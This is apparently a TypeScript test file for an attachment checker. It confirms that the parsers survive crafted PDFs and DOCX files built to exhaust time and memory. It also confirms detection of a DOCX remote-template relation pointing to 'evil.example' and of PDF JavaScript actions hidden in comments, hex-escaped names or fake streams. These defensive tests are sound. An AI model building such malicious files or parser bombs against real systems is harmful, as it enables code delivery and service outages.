import { checkAttachment } from '../../files/check-file';
import { activeName } from '../../files/pdf/active';
import { firstPageLines } from '../../files/pdf/first-page';
import { hasRemoteProgram } from '../../files/remote-relations';
import { findMark, markInName, markInText } from '../../files/secrecy';
import { docxWith } from '../setup/office-file';
import { pdfWith } from '../setup/pdf';
import { zipOf } from '../setup/zip';

const MB = 1_048_576;
const secondsOf = (work: () => unknown): number => {
  const start = performance.now();
  work();
  return (performance.now() - start) / 1_000;
};

describe('files made to hold the program up', () => {
  it('cost less than a second: a document of opened and never closed texts', () => {
    const content = zipOf({ 'word/document.xml': '<w:t '.repeat(60_000) });
    const files = [{ name: 'a.docx', mediaType: '', content }];
    const document = { number: null, date: null, signer: null };
    expect(secondsOf(() => findMark({ document, texts: [], files }))).toBeLessThan(1);
  });

  it('cost less than a second: relations opened and never closed', () => {
    expect(secondsOf(() => hasRemoteProgram('<Relationship '.repeat(40_000)))).toBeLessThan(1);
  });

  it('cost less than a second: a page of pictures without bytes', () => {
    expect(secondsOf(() => firstPageLines(pdfWith(`${'BI ID EI '.repeat(20_000)}${' '.repeat(4 * MB)}`)))).toBeLessThan(
      1,
    );
  });

  const later = (id: number, body: string) => Buffer.from(`${id} 0 obj\n${body}\nendobj\n`, 'latin1');
  const plain = (id: number, content: string) =>
    later(id, `<< /Length ${content.length} >>\nstream\n${content}\nendstream`);
  const shown = 'BT /F1 12 Tf 1 0 0 1 72 700 Tm (AB) Tj ET';

  it.each<[string, Buffer]>([
    [
      'a page made of one long stream two hundred times',
      Buffer.concat([
        pdfWith(shown, { page: `/Contents [${'7 0 R '.repeat(200)}]` }),
        plain(7, shown.padEnd(15 * MB, ' ')),
      ]),
    ],
    [
      'a font that gives the widths of all letters over and over',
      Buffer.concat([
        pdfWith(shown),
        later(
          5,
          `<< /Type /Font /Subtype /Type0 /ToUnicode 6 0 R /DescendantFonts [<< /W [${'0 65000 1 '.repeat(3_000)}] >>] >>`,
        ),
      ]),
    ],
    [
      'a font that names all letters over and over',
      Buffer.concat([pdfWith(shown), plain(6, `1 beginbfrange ${'<0000> <FDE8> <0041> '.repeat(400)} endbfrange`)]),
    ],
    [
      'forms that show each other',
      Buffer.concat([
        pdfWith('/X Do '.repeat(300), { page: '/Resources << /XObject << /X 7 0 R >> >>' }),
        later(7, `<< /Subtype /Form /Length 1800 >>\nstream\n${'/X Do '.repeat(300)}\nendstream`),
      ]),
    ],
  ])('cost little time and memory: %s', (_, content) => {
    const before = process.memoryUsage().rss;
    expect(secondsOf(() => firstPageLines(content))).toBeLessThan(1.5);
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * MB);
  });

  it('are not confused with a page that changes its letters thousands of times', () => {
    const font = `<< /Type /Font /Subtype /Type1 /FirstChar 0 /Widths [${'500 '.repeat(256)}] /ToUnicode 6 0 R >>`;
    const page = pdfWith(`BT ${'/F1 12 Tf 1 0 0 1 72 700 Tm (AB) Tj '.repeat(5_000)} ET`);
    expect(firstPageLines(Buffer.concat([page, later(5, font)]))).toEqual(['AB']);
  });

  it('leave others their turn while a file of many parts is unpacked', async () => {
    const parts = Array.from({ length: 400 }, (_, index) => ({
      name: `word/part${index}.xml`,
      content: `<a>${'Báo cáo kết quả '.repeat(10_000)}${Math.random()}</a>`,
    }));
    const content = docxWith([...parts, { name: 'word/media/a.bin', content: Buffer.alloc(MB, 1), method: 0 }]);
    let last = performance.now();
    let longest = 0;
    const timer = setInterval(() => {
      longest = Math.max(longest, performance.now() - last);
      last = performance.now();
    }, 5);
    const checked = await checkAttachment('a.docx', content);
    longest = Math.max(longest, performance.now() - last);
    clearInterval(timer);
    expect(checked.ok).toBe(true);
    expect(longest).toBeLessThan(200);
  });
});

describe('a relation that would fetch a program', () => {
  const relation = (attributes: string) => `<Relationships><Relationship ${attributes}/></Relationships>`;
  const far = 'Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"';

  it.each([
    ['behind a sign that closes nothing', `Id="a>b" ${far}`],
    ['behind another attribute that names the same words', `Id="TargetMode='Internal'" ${far}`],
  ])('is seen %s', (_, attributes) => {
    expect(hasRemoteProgram(relation(attributes))).toBe(true);
  });

  it('is seen in UTF-16, and behind a megabyte of blanks', async () => {
    const xml = relation(far);
    for (const content of [
      Buffer.from(`\ufeff${xml}`, 'utf16le'),
      Buffer.from(xml.replace('<Rel', `${' '.repeat(2 * MB)}<Rel`)),
    ]) {
      const file = docxWith([{ name: 'word/_rels/settings.xml.rels', content }]);
      expect(await checkAttachment('a.docx', file)).toMatchObject({ ok: false });
    }
  });
});

describe('a script in a PDF', () => {
  const script = '9 0 obj << /S /JavaScript /JS 8 0 R >> endobj\n';
  it.each([
    ['between brackets in comments', `%(\n${script}%)\n`],
    ['between brackets that belong to no object', `(\n${script})\n`],
    ['in bytes that only look like those of a picture', `<<>>\nstream\n${script}endstream\n`],
  ])('is seen %s', (_, text) => {
    expect(activeName(Buffer.concat([pdfWith('BT ET'), Buffer.from(text)]))).toBe('JavaScript');
  });

  it('is seen by a name in numbers, and before a zero byte', () => {
    const named = (name: string) =>
      Buffer.concat([pdfWith('BT ET'), Buffer.from(`9 0 obj << ${name} 8 0 R >> endobj\n`)]);
    expect(activeName(named('/#4a#53'))).toBe('JS');
    expect(activeName(named('/J#53\0'))).toBe('JS');
    expect(activeName(named('/#4A#53X'))).toBeNull();
  });

  it('costs little to look for in a file of names in numbers', () => {
    const content = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(20 * MB, '#41')]);
    expect(secondsOf(() => activeName(content))).toBeLessThan(2);
  });

  it('is not seen in the words of a link', () => {
    const link = '9 0 obj << /S /URI /URI (https://a.example/\\(JS\\)/JS/\\50) /T (a (b /JS) c) >> endobj\n';
    expect(activeName(Buffer.concat([pdfWith('BT ET'), Buffer.from(link)]))).toBeNull();
  });
});

describe('a mark of secrecy', () => {
  it.each([
    'BÁO CÁO MẬT ĐỘ DÂN SỐ.xlsx',
    'MẬT KHẨU_HƯỚNG DẪN.pdf',
    'QUAN HỆ MẬT THIẾT.docx',
    'SẢN LƯỢNG MẬT ONG 2026.xlsx',
    'bao cao gui toi Mat tran To quoc.pdf',
    'gui-toi-mat-tran.docx',
  ])('is not seen in the name %s', (name) => {
    expect(markInName(name)).toBeNull();
  });

  it('is a stamp, not the heads of a table that counts documents by degree', () => {
    expect(markInText('Loại văn bản\nTuyệt mật\nTối mật\nMật\nThường')).toBeNull();
    expect(markInText('MẬT\nBáo cáo\nMẬT')).toBe('Mật');
  });
});
